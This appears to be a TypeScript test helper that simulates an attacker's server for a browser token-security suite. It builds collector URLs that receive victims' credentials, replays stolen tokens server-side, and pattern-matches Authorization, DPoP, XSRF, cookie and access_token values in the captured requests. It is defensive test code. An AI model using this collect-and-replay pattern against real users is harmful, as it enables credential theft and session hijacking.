import { foreignLog, foreignOrigin } from '../foreign.js'
import type { Seen } from '../server.js'
import { isCookie, type Victim } from './victims.js'

/** Somebody else's server, as far as it helps to show what it gets. */
export interface ForeignServer {
  readonly origin: string
  /** Makes an address there that writes down what it is sent: of which victim's it is, and by what. */
  collector(
    of: Victim,
    by: 'latchkey' | 'hand',
  ): { readonly url: string; arrived(): Promise<readonly Seen[]> }
  /** What was sent there with that visit. */
  arrived(visit: string): Promise<readonly Seen[]>
  /** Tries a stolen token from there, without this browser. @throws Error if it could not even be tried */
  use(victim: Victim): Promise<{ readonly status: number; readonly name?: string }>
}

export async function foreignServer(): Promise<ForeignServer> {
  const origin = await foreignOrigin()
  const arrived = (visit: string) => foreignLog(origin, visit)
  return {
    origin,
    arrived,
    collector({ id }, by) {
      const visit = crypto.randomUUID()
      return { url: `${origin}/collect?visit=${visit}&of=${id}&by=${by}`, arrived: () => arrived(visit) }
    },
    async use({ kind, carrier, token }) {
      const body = new URLSearchParams({ kind, carrier, token })
      const response = await fetch(`${origin}/use?visit=${crypto.randomUUID()}`, { method: 'POST', body })
      if (!response.ok) throw new Error(`the thief’s server could not try it: ${response.status}`)
      return response.json()
    },
  }
}

const SECRETS = /^(authorization|dpop|x-auth-token|x-xsrf-token)$/i

/** What of a victim's is in the requests that arrived: `name: value`, each once. */
export function givenAway(victim: Victim, requests: readonly Seen[]): readonly string[] {
  return [...new Set(requests.flatMap((request) => secretsIn(victim, request)))]
}

function secretsIn(victim: Victim, { line, headers }: Seen): string[] {
  const inHeaders = headers.filter(([name]) => SECRETS.test(name)).map(([name, value]) => `${name}: ${value}`)
  const inCookies = headers
    .filter(([name]) => /^cookie$/i.test(name))
    .flatMap(([, value]) => value.split('; '))
  const own = isCookie(victim) ? inCookies.filter((pair) => isOf(victim, pair)) : []
  const inLine = /\baccess_token=[^& ]+/.exec(line) ?? []
  return [...inHeaders, ...own.map((pair) => `cookie: ${pair}`), ...inLine]
}

/** The browser has one jar for all, so that each other's cookies go along. */
function isOf({ carrier }: Victim, pair: string): boolean {
  return pair.startsWith(`${carrier}=`) || pair.startsWith('XSRF-TOKEN=')
}
